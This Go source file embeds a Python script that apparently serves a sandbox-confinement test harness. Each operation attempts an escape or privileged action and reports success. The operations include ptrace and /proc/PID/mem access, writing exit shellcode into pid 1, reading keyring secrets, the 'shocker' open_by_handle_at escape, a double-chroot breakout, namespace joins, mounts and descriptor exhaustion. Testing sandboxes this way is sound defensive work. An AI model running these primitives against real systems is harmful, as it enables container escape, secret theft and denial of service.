package attack

// attackPy is the agent's toolbox for the attempts a shell cannot make:
// sockets, system calls, /proc/PID/mem. It is written into the workdir and
// run as `/usr/bin/python3 attack.py OP ARGS...`. Every operation exits 0 when
// the attempt SUCCEEDED (an escape) and 1 when it was refused, printing what
// happened either way.
const attackPy = `
import ctypes, errno, os, socket, struct, sys, time

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
op, args = sys.argv[1], sys.argv[2:]

def won(msg):
    print("SUCCEEDED", msg); sys.stdout.flush(); sys.exit(0)

def lost(msg):
    print("refused", msg); sys.stdout.flush(); sys.exit(1)

def err():
    e = ctypes.get_errno()
    return "%s (%d)" % (errno.errorcode.get(e, "?"), e)

def family(host):
    return socket.AF_INET6 if ":" in host else socket.AF_INET

if op == "tcp":                      # tcp HOST PORT: connect
    host, port = args[0], int(args[1])
    s = socket.socket(family(host), socket.SOCK_STREAM); s.settimeout(3)
    try:
        s.connect((host, port))
    except OSError as e:
        lost("%s:%d %s" % (host, port, e))
    s.settimeout(2)
    try: got = s.recv(200)
    except OSError: got = b""
    won("connected to %s:%d %r" % (host, port, got))

elif op == "udp":                    # udp HOST PORT: send one datagram
    host, port = args[0], int(args[1])
    s = socket.socket(family(host), socket.SOCK_DGRAM)
    try:
        s.sendto(b"sandbox-udp-probe", (host, port))
    except OSError as e:
        lost("%s:%d %s" % (host, port, e))
    won("sent to %s:%d (whether it arrived is checked outside)" % (host, port))

elif op == "dns":                    # dns SERVER NAME: one UDP query
    server, name = args[0], args[1]
    q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    q += b"\x00" + struct.pack(">HH", 1, 1)
    s = socket.socket(family(server), socket.SOCK_DGRAM); s.settimeout(2)
    try:
        s.sendto(q, (server, 53))
        data = s.recv(512)
    except OSError as e:
        lost("query %s at %s: %s" % (name, server, e))
    won("answer from %s: %r" % (server, data))

elif op == "raw":                    # raw: raw IP and packet sockets
    for fam, typ, proto, what in [(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP, "raw ICMP"),
                                  (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW, "raw IP"),
                                  (socket.AF_PACKET, socket.SOCK_RAW, 0x0300, "packet")]:
        try:
            socket.socket(fam, typ, proto)
            won(what + " socket created")
        except OSError as e:
            print(what, e)
    lost("no raw socket")

elif op == "unix":                   # unix PATH: connect to a socket by path
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        s.connect(args[0])
    except OSError as e:
        lost("%s: %s" % (args[0], e))
    won("connected to " + args[0])

elif op == "abstract":               # abstract NAME: connect to @NAME
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        s.connect("\0" + args[0])
    except OSError as e:
        lost("@%s: %s" % (args[0], e))
    won("connected to @" + args[0])

elif op == "bind":                   # bind HOST PORT: take a port, sharing it if it can
    host, port = args[0], int(args[1])
    s = socket.socket(family(host), socket.SOCK_STREAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    try:
        s.bind((host, port)); s.listen(1)
    except OSError as e:
        lost("%s:%d %s" % (host, port, e))
    won("listening on %s:%d" % (host, port))

elif op == "bindudp":                # bindudp HOST PORT: take a UDP port, sharing it if it can, and read what arrives
    host, port = args[0], int(args[1])
    s = socket.socket(family(host), socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    try:
        s.bind((host, port))
    except OSError as e:
        lost("%s:%d/udp %s" % (host, port, e))
    won("bound %s:%d/udp" % (host, port))

elif op == "proxy":                  # proxy PORT METHOD TARGET [HEADER...]: one request to a proxy inside
    port, method, target = int(args[0]), args[1], args[2]
    s = socket.create_connection(("127.0.0.1", port), 5); s.settimeout(10)
    if method == "CONNECT":
        head = "CONNECT %s HTTP/1.1\r\nHost: %s\r\n" % (target, target)
    else:
        host = target.split("/")[2]
        head = "%s %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n" % (method, target, host)
    for h in args[3:]:
        head += h + "\r\n"
    s.sendall((head + "\r\n").encode())
    resp = b""
    while b"\r\n\r\n" not in resp:
        try: chunk = s.recv(4096)
        except OSError: break
        if not chunk: break
        resp += chunk
    status = resp.split(b"\r\n", 1)[0].decode(errors="replace")
    print(status)
    for line in resp.split(b"\r\n"):
        if line.lower().startswith(b"x-proxy-error"): print(line.decode(errors="replace"))
    if not status.startswith("HTTP/1.1 2") and not status.startswith("HTTP/1.0 2"):
        lost(status)
    body = resp.split(b"\r\n\r\n", 1)[1] if b"\r\n\r\n" in resp else b""
    if method == "CONNECT":
        s.sendall(b"GET / HTTP/1.0\r\n\r\n")
    try:
        while True:
            chunk = s.recv(4096)
            if not chunk: break
            body += chunk
    except OSError: pass
    won("%s %s reached: %r" % (method, target, body[-200:]))

elif op == "ptrace":                 # ptrace PID: attach
    pid = int(args[0])
    if libc.ptrace(16, pid, None, None) != 0:      # PTRACE_ATTACH
        lost("attach %d: %s" % (pid, err()))
    time.sleep(0.1); libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
    won("attached to %d" % pid)

elif op == "vmread":                 # vmread PID: process_vm_readv of its stack
    pid = int(args[0])
    try:
        sp = int(open("/proc/%d/syscall" % pid).read().split()[-2], 16)
    except Exception as e:
        sp = 0x7ff000000000
    class iovec(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
    buf = ctypes.create_string_buffer(64)
    local, remote = iovec(ctypes.addressof(buf), 64), iovec(sp, 64)
    n = libc.syscall(310, pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    if n < 0:
        lost("process_vm_readv %d: %s" % (pid, err()))
    won("read %d bytes of %d" % (n, pid))

elif op == "memwrite":               # memwrite PID: open /proc/PID/mem for writing
    try:
        fd = os.open("/proc/%s/mem" % args[0], os.O_RDWR)
    except OSError as e:
        lost("/proc/%s/mem: %s" % (args[0], e))
    os.close(fd)
    won("/proc/%s/mem is open for writing" % args[0])

elif op == "killinit":               # killinit: make pid 1 run exit(3) through /proc/1/mem
    try:
        fields = open("/proc/1/syscall").read().split()
        pc = int(fields[-1], 16)
        fd = os.open("/proc/1/mem", os.O_RDWR)
    except OSError as e:
        lost("pid 1: %s" % e)
    code = bytes([0xbf, 3, 0, 0, 0, 0xb8, 60, 0, 0, 0, 0x0f, 0x05])  # mov edi,3; mov eax,60; syscall
    os.pwrite(fd, code, pc)
    for p in os.listdir("/proc"):
        if p.isdigit() and p != "1":
            try:
                if open("/proc/%s/stat" % p).read().split(") ", 1)[1].split()[1] == "1":
                    os.kill(int(p), 9)            # wake pid 1's wait()
            except OSError: pass
    time.sleep(1)
    won("wrote exit(3) into pid 1 at %#x" % pc)

elif op == "keyread":                # keyread DESC: find a key by description in the user keyring
    kid = libc.syscall(250, 10, ctypes.c_long(-4), b"user", args[0].encode(), 0)  # KEYCTL_SEARCH @u
    if kid < 0:
        lost("search @u for %s: %s" % (args[0], err()))
    buf = ctypes.create_string_buffer(4096)
    n = libc.syscall(250, 11, kid, buf, 4096)
    won("key %d: %r" % (kid, buf.raw[:max(n, 0)]))

elif op == "keyring":                # keyring SERIAL: is our session keyring the daemon's?
    mine = libc.syscall(250, 0, ctypes.c_long(-3), 0)
    if mine == int(args[0]):
        won("the session keyring %d is the daemon's" % mine)
    lost("session keyring %d, the daemon's is %s" % (mine, args[0]))

elif op == "anykeyring":             # anykeyring: reach any keyring of ours at all
    for spec, what in [(-1, "thread"), (-2, "process"), (-3, "session"), (-4, "user"), (-5, "user session")]:
        kid = libc.syscall(250, 0, ctypes.c_long(spec), 0)   # KEYCTL_GET_KEYRING_ID, no create
        if kid >= 0:
            won("the %s keyring is %d" % (what, kid))
        print(what, "keyring:", err())
    lost("no keyring")

elif op == "handle":                 # handle: open_by_handle_at, the shocker escape
    class fh(ctypes.Structure):
        _fields_ = [("bytes", ctypes.c_uint), ("type", ctypes.c_int), ("f", ctypes.c_ubyte * 128)]
    h, mnt = fh(), ctypes.c_int()
    h.bytes = 128
    if libc.name_to_handle_at(-100, b"/", ctypes.byref(h), ctypes.byref(mnt), 0) != 0:
        lost("name_to_handle_at: " + err())
    mfd = os.open("/", os.O_RDONLY)
    fd = libc.open_by_handle_at(mfd, ctypes.byref(h), os.O_RDONLY)
    if fd < 0:
        lost("open_by_handle_at: " + err())
    won("opened / by handle")

elif op == "setns":                  # setns PATH: join a namespace by its file
    try:
        fd = os.open(args[0], os.O_RDONLY)
    except OSError as e:
        lost("%s: %s" % (args[0], e))
    if libc.setns(fd, 0) != 0:
        lost("setns %s: %s" % (args[0], err()))
    won("joined " + args[0])

elif op == "unshare":                # unshare FLAGS: new namespaces
    flags = int(args[0], 0)
    if libc.unshare(flags) != 0:
        lost("unshare %#x: %s" % (flags, err()))
    won("unshared %#x" % flags)

elif op == "mount":                  # mount SOURCE TARGET FSTYPE FLAGS
    if libc.mount(args[0].encode(), args[1].encode(), args[2].encode(), ctypes.c_ulong(int(args[3], 0)), None) != 0:
        lost("mount %s on %s: %s" % (args[0], args[1], err()))
    won("mounted %s on %s" % (args[0], args[1]))

elif op == "umount":                 # umount TARGET
    if libc.umount2(args[0].encode(), 2) != 0:                # MNT_DETACH
        lost("umount %s: %s" % (args[0], err()))
    won("unmounted " + args[0])

elif op == "chroot-break":           # chroot-break PATH: the classic double chroot, then look for PATH
    os.makedirs("cb", exist_ok=True)
    try:
        keep = os.open(".", os.O_RDONLY)
        os.chroot("cb"); os.fchdir(keep)
        for _ in range(64): os.chdir("..")
        os.chroot(".")
    except OSError as e:
        lost("chroot: %s" % e)
    if os.path.exists(args[0]):
        won("%s is visible after breaking out of a chroot" % args[0])
    lost("%s is still absent" % args[0])

elif op == "sockopt":                # sockopt: options that need CAP_NET_ADMIN
    s = socket.socket()
    for name, level, opt, val in [("SO_MARK", socket.SOL_SOCKET, 36, 1), ("SO_PRIORITY>6", socket.SOL_SOCKET, 12, 7)]:
        try:
            s.setsockopt(level, opt, val); won(name)
        except OSError as e:
            print(name, e)
    lost("no privileged socket option")

elif op == "fds":                    # fds N: open descriptors until refused or N, hold them SECONDS
    import resource
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    try: resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    except (OSError, ValueError): pass
    held = []
    try:
        while len(held) < int(args[0]):
            held.append(os.open("/dev/null", os.O_RDONLY))
    except OSError as e:
        print("stopped at", len(held), e)
    print("holding", len(held)); sys.stdout.flush()
    time.sleep(float(args[1]))
    won("held %d descriptors" % len(held))

elif op == "module":                 # module: finit_module on a bad descriptor (EPERM without CAP_SYS_MODULE)
    if libc.syscall(313, -1, b"", 0) == 0 or ctypes.get_errno() not in (errno.EPERM, errno.ENOSYS):
        won("finit_module got past the capability check: " + err())
    lost("finit_module: " + err())

else:
    print("unknown op", op); sys.exit(2)
`
